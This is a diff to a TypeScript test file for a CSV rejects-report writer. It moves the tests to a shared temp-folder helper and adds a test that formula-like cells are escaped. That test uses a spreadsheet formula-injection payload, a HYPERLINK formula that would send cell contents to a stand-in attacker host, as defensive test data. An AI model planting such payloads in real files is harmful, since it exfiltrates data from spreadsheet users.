@@ -1,7 +1,6 @@
 import { existsSync } from 'node:fs';
-import { mkdtemp, readdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { readdir, readFile, stat, symlink, writeFile } from 'node:fs/promises';
+import { useFolder } from '../../../../test/support/use-folder.ts';
 import { ImportCounts } from './row-report.js';
 import { JsonReport } from './json-report.js';
 import { OutputFile } from './output-file.js';
@@ -16,14 +15,12 @@ const REJECTED = {
 const ABOUT = { file: 'a.csv', format: 'CSV', encoding: 'UTF-8', dryRun: false } as const;
 
 describe(OutputFile.name, () => {
-  let folder: string;
+  const inFolder = useFolder();
   let path: string;
 
-  beforeEach(async () => {
-    folder = await mkdtemp(join(tmpdir(), 'mnbd-output-'));
-    path = join(folder, 'out');
+  beforeEach(() => {
+    path = inFolder('out');
   });
-  afterEach(() => rm(folder, { recursive: true }));
 
   const writeRejects = async () => {
     const file = await RejectsFile.create(path, () => ['name', 'city']);
@@ -41,7 +38,7 @@ describe(OutputFile.name, () => {
     await file.close();
     expect(await readFile(path, 'utf8')).toBe('line,reason,name,city\n2,It has no name.,,Ely\n');
     expect((await stat(path)).mode & 0o777).toBe(0o600);
-    expect(await readdir(folder)).toEqual(['out']);
+    expect(await readdir(inFolder())).toEqual(['out']);
   });
 
   it('replaces an older report or an empty file', async () => {
@@ -62,11 +59,11 @@ describe(OutputFile.name, () => {
       await expect(write()).rejects.toThrow(`${path} already exists.`);
     }
     expect(await readFile(path, 'utf8')).toBe(content);
-    expect(await readdir(folder)).toEqual(['out']);
+    expect(await readdir(inFolder())).toEqual(['out']);
   });
 
   it('uses the next number unless a file with the same content exists', async () => {
-    const rejects = join(folder, 'a.csv.rejects.csv');
+    const rejects = inFolder('a.csv.rejects.csv');
     const write = async (reason: string) => {
       const file = await RejectsFile.createNumbered(rejects, () => ['name', 'city']);
       await file.add({ ...REJECTED, reason });
@@ -75,13 +72,13 @@ describe(OutputFile.name, () => {
     const close = async (reason: string) => (await write(reason)).close();
     expect(await close('One.')).toBe(rejects);
     await writeFile(rejects, 'mended');
-    const second = join(folder, 'a.csv.rejects-2.csv');
+    const second = inFolder('a.csv.rejects-2.csv');
     expect([await close('One.'), await close('One.')]).toEqual([second, second]);
     // Two concurrent writes.
     const [a, b] = [await write('Two.'), await write('Three.')];
     expect(new Set(await Promise.all([a.close(), b.close()])).size).toBe(2);
     expect(await readFile(rejects, 'utf8')).toBe('mended');
-    expect((await readdir(folder)).sort()).toEqual([
+    expect((await readdir(inFolder())).sort()).toEqual([
       'a.csv.rejects-2.csv',
       'a.csv.rejects-3.csv',
       'a.csv.rejects-4.csv',
@@ -90,7 +87,7 @@ describe(OutputFile.name, () => {
   });
 
   it('does not replace a link or a device', async () => {
-    await symlink(join(folder, 'elsewhere'), path);
+    await symlink(inFolder('elsewhere'), path);
     await expect(writeRejects()).rejects.toThrow(`${path} is not a regular file.`);
     await expect(RejectsFile.create('/dev/null', () => [])).rejects.toThrow('not a regular file');
   });
@@ -99,11 +96,22 @@ describe(OutputFile.name, () => {
     const file = await writeRejects();
     await writeFile(path, 'mine');
     await expect(file.close()).rejects.toThrow(/already exists/);
-    expect([await readFile(path, 'utf8'), await readdir(folder)]).toEqual(['mine', ['out']]);
+    expect([await readFile(path, 'utf8'), await readdir(inFolder())]).toEqual(['mine', ['out']]);
+  });
+
+  it('contains no cell that a spreadsheet evaluates as a formula', async () => {
+    const file = await RejectsFile.create(path, () => ['=name', 'phone', 'note']);
+    const cells = ['=HYPERLINK("https://evil.example/?"&A1)', '+12183654000', '@SUM(A1)'];
+    await file.add({ ...REJECTED, cells });
+    await file.close();
+    expect(await readFile(path, 'utf8')).toBe(
+      "line,reason,'=name,phone,note\n" +
+        `2,It has no name.,"'=HYPERLINK(""https://evil.example/?""&A1)",+12183654000,'@SUM(A1)\n`,
+    );
   });
 
   it('leaves no file when nothing was rejected', async () => {
     const file = await RejectsFile.create(path, () => ['name']);
-    expect([await file.close(), await readdir(folder)]).toEqual([undefined, []]);
+    expect([await file.close(), await readdir(inFolder())]).toEqual([undefined, []]);
   });
 });
